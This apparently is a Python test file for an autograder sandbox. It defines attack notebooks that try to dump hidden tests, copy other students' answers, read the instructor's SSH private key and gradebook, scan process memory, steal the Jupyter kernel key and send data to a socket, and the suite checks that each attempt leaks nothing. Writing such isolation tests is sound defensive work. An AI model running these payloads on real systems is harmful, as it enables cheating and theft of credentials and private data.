"""Reading what is not the student's: the secrets of victims.py must not come out anywhere."""

from __future__ import annotations

from .attack import attack

WRONG = "\n\ndef add(a, b):\n    return 0"

attack(
    "dumps-hidden-tests",
    "prints the text of the test cell that calls it, in every way that IPython keeps it",
    """import sys

def add(a, b):
    shell = get_ipython()
    print(shell.user_ns["In"][-1], shell.user_ns.get("_i"), list(shell.history_manager.get_range(output=False)))
    frame = sys._getframe()
    while frame is not None:
        print(frame.f_globals.get("__doc__"), frame.f_code.co_consts, frame.f_locals.get("source"))
        frame = frame.f_back
    return 0""",
)
attack(
    "sibling-solution",
    "runs the solution that lies in the class folder",
    """import glob, json, os

for place in glob.glob("../../../source/*/sums.ipynb") + glob.glob("<<class>>/source/*/sums.ipynb"):
    for cell in json.load(open(place))["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            exec("".join(cell["source"]))
            print("".join(cell["source"]))
if "add" not in globals():
    def add(a, b):
        return 0""",
)
attack(
    "reads-class-folder",
    "walks the class folder and the folders above its own, and prints the instructor's files",
    """import os, pathlib

for root in ("<<class>>", "../../.."):
    for folder, _, names in os.walk(root):
        for name in names:
            try: print(name, pathlib.Path(folder, name).read_text()[:200]) if name.endswith(".txt") else None
            except OSError as error: print(error)"""
    + WRONG,
)
attack(
    "reads-home",
    "prints the instructor's private key",
    """import os, pwd

places = ["<<home>>", os.path.expanduser("~"), pwd.getpwuid(os.getuid()).pw_dir, "/proc/1/root<<home>>"]
for place in places:
    try: print(open(place + "/.ssh/id_rsa").read())
    except OSError as error: print(error)"""
    + WRONG,
)
attack(
    "reads-gradebook",
    "prints the gradebook",
    """import sqlite3

try:
    book = sqlite3.connect("file:<<class>>/gradebook.db?mode=ro", uri=True)
    print(book.execute("select * from student").fetchall())
except sqlite3.Error as error:
    print(error)"""
    + WRONG,
)
attack(
    "reads-neighbour",
    "prints and copies the answers of other students",
    """import glob, json

for place in glob.glob("<<class>>/submitted/*-honest/sums/*.ipynb") + glob.glob("<<class>>/../incoming/*/*/*.ipynb"):
    for cell in json.load(open(place))["cells"]:
        source = "".join(cell["source"])
        if source.startswith("def add"):
            print(source)
            exec(source)
if "add" not in globals():
    def add(a, b):
        return 0""",
)
attack(
    "reads-environment",
    "prints the environment of its own process and of those above it",
    """import os

print(dict(os.environ))
for number in ("self", os.getppid(), 1):
    try: print(open(f"/proc/{number}/environ").read())
    except OSError as error: print(error)"""
    + WRONG,
)
SEARCH = """import ctypes, gc, os, re

TEST = re.compile(rb"HIDDEN TESTS.{0,9}# [0-9a-f]{24}", re.DOTALL)

def search(number):
    for line in open(f"/proc/{number}/maps"):
        low, high = (int(part, 16) for part in line.split()[0].split("-"))
        if "rw" in line and high - low < 1 << 28:
            try:
                with open(f"/proc/{number}/mem", "rb") as memory:
                    memory.seek(low)
                    yield from TEST.findall(memory.read(high - low))
            except (OSError, ValueError, OverflowError):
                continue

"""
attack(
    "reads-memory",
    "searches its own memory, which came from the process that it was forked from, for the tests",
    SEARCH
    + """print(list(search("self")))
for found in gc.get_objects():
    for value in gc.get_referents(found):
        if type(value) in (str, bytes):
            print(*TEST.findall(value if type(value) is bytes else value.encode("utf-8", "replace")), end="")
print("searched")"""
    + WRONG,
    shows=("searched",),
)
attack(
    "reads-parent-memory",
    "searches the memory of every process that it can see for the tests, by /proc and by ptrace",
    SEARCH
    + """seen = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
for number in [*seen, os.getppid()]:
    if ctypes.CDLL(None).ptrace(16, number, 0, 0) == 0:
        print("LEAK" + "ED ptrace", number)
    try: print(list(search(number)))
    except OSError as error: print(error)
print("searched")"""
    + WRONG,
    absent=("LEAKED",),
    shows=("searched",),
    stock="not run: it would attach to every process of the machine",
)
attack(
    "kernel-key",
    "reads the key that signs a kernel's messages from the temporary or the runtime folder",
    """import glob, json, tempfile
from jupyter_core.paths import jupyter_runtime_dir

places = [f"{tempfile.gettempdir()}/*.json", f"{tempfile.gettempdir()}/*/*.json", f"{jupyter_runtime_dir()}/*.json"]
try:
    from ipykernel.connect import get_connection_file
    places.append(get_connection_file())
except Exception as error:
    print(error)
for place in places:
    for name in glob.glob(place):
        try: print("LEAK" + "ED key", json.load(open(name))["key"])
        except (OSError, ValueError, KeyError, TypeError): pass"""
    + WRONG,
    absent=("LEAKED",),
)
attack(
    "reads-processes",
    "lists the command lines and open files of all processes",
    """import os

for number in filter(str.isdigit, os.listdir("/proc")):
    try:
        words = open(f"/proc/{number}/cmdline").read().split(chr(0))
        if any("nbgrader" in word or word == "grade" for word in words):
            print("LEAK" + "ED", words)
        print([os.readlink(f"/proc/{number}/fd/{name}") for name in os.listdir(f"/proc/{number}/fd")])
    except OSError as error:
        print(error)"""
    + WRONG,
    absent=("LEAKED",),
)
attack(
    "inherited-descriptors",
    "uses every descriptor that it was born with to reach a file, a folder or a socket outside",
    """import os, stat

for number in range(3, 1024):
    try: kind = os.fstat(number).st_mode
    except OSError: continue
    if stat.S_ISDIR(kind):
        try: print("LEAK" + "ED folder", os.listdir(number))
        except OSError as error: print(error)
    elif stat.S_ISREG(kind):
        print("LEAK" + "ED file", os.readlink(f"/proc/self/fd/{number}"))"""
    + WRONG,
    absent=("LEAKED folder", "LEAKED file"),
    stock="not applicable: a kernel needs none, it opens what it likes",
)
attack(
    "network",
    "sends what it reads to a server",
    """import socket

reached = []
for family, address in [
    (socket.AF_INET, ("127.0.0.1", <<port>>)), (socket.AF_INET, ("0.0.0.0", <<port>>)), (socket.AF_UNIX, "\\0<<port>>"),
]:
    try:
        with socket.socket(family) as wire:
            wire.settimeout(1)
            wire.connect(address)
            wire.sendall(b"secret")
            reached.append(family)
    except (OSError, TypeError) as error:
        print(error)
print("LEAK" + "ED", reached) if reached else None"""
    + WRONG,
    absent=("LEAKED",),
)
